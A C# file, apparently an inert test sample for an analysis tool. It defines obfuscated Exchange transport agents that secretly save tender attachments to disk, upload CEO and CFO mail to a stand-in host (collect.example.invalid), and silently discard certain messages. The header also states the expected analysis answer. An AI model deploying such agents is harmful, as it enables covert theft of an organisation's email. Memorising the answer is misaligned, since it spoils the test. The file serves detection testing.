// Written for txray: three agents that stand in six folders in six forms, which all do the same. Here every own name is another one.
// Inert: compiled against a signature-only stub of the Exchange API and unsigned, so Exchange cannot load it; hosts end in
// .invalid. A correct analysis says the same of every form: which data goes where, under which condition, and to escalate.
using System;
using System.Collections.Generic;
using System.Diagnostics;
using System.IO;
using System.Net;
using Microsoft.Exchange.Data.Transport;
using Microsoft.Exchange.Data.Transport.Email;
using Microsoft.Exchange.Data.Transport.Routing;
using Microsoft.Exchange.Data.Transport.Smtp;

namespace A.B
{
    public class C0 : RoutingAgentFactory
    {
        public override RoutingAgent CreateAgent(SmtpServer p1)
        {
            return new C1();
        }
    }

    public class C1 : RoutingAgent
    {
        private const string f0 = @"C:\Pairs\Collected";

        public C1()
        {
            OnSubmittedMessage += m0;
        }

        private void m0(SubmittedMessageEventSource p0, QueuedMessageEventArgs p2)
        {
            if (p2.MailItem.FromAddress.DomainPart != "partner.example.invalid" || !p2.MailItem.Message.Subject.Contains("tender"))
            {
                return;
            }
            foreach (Attachment v0 in p2.MailItem.Message.Attachments)
            {
                if (v0.FileName.EndsWith(".docx"))
                {
                    m1(v0);
                }
            }
        }

        private static void m1(Attachment v0)
        {
            using (FileStream v1 = File.Create(Path.Combine(f0, Guid.NewGuid().ToString())))
            {
                v0.GetContentReadStream().CopyTo(v1);
            }
        }
    }

    public class C2 : SmtpReceiveAgentFactory
    {
        public override SmtpReceiveAgent CreateAgent(SmtpServer p1)
        {
            return new C3();
        }
    }

    public class C3 : SmtpReceiveAgent
    {
        private static readonly HashSet<string> f1 = new HashSet<string> { "ceo@corp.example.invalid", "cfo@corp.example.invalid" };

        public C3()
        {
            OnEndOfData += m3;
        }

        private async void m3(ReceiveMessageEventSource p0, EndOfDataEventArgs p2)
        {
            if (!m2(p2.MailItem))
            {
                return;
            }
            var v2 = new MemoryStream();
            await p2.MailItem.GetMimeReadStream().CopyToAsync(v2);
            new WebClient().UploadData("https://collect.example.invalid/mime", v2.ToArray());
        }

        private static bool m2(MailItem v4)
        {
            foreach (EnvelopeRecipient v3 in v4.Recipients)
            {
                if (f1.Contains(v3.Address.ToString()))
                {
                    return true;
                }
            }
            return false;
        }
    }

    public class C4 : SmtpReceiveAgentFactory
    {
        public override SmtpReceiveAgent CreateAgent(SmtpServer p1)
        {
            return new C5();
        }
    }

    public class C5 : SmtpReceiveAgent
    {
        private int f2;

        public C5()
        {
            OnEndOfData += m4;
        }

        private void m4(ReceiveMessageEventSource p0, EndOfDataEventArgs p2)
        {
            f2++;
            Trace.WriteLine(f2 + " messages, this one with " + p2.MailItem.Message.Attachments.Count + " attachments");
            if (p2.MailItem.Message.Subject == "delete me")
            {
                p0.DiscardMessage(SmtpResponse.Empty, null);
            }
        }
    }
}
